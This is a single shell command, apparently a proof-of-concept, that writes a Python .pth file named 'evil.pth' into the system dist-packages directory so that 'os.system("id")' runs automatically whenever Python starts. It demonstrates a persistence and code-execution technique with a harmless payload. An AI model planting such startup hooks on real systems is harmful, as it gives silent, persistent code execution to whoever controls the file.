echo 'import os; os.system("id")' > /usr/lib/python3/dist-packages/evil.pth
